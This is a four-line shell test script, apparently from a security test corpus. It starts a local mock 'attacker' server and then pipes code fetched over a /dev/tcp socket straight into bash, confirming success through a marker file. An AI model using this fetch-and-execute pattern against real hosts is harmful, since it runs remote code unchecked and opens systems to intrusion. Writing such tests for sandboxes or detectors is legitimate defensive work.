. "$CORPUS/lib/common.sh"
attacker serve 31005 'echo >done'
bash -c 'bash </dev/tcp/127.0.0.1/31005'
[ -e done ]
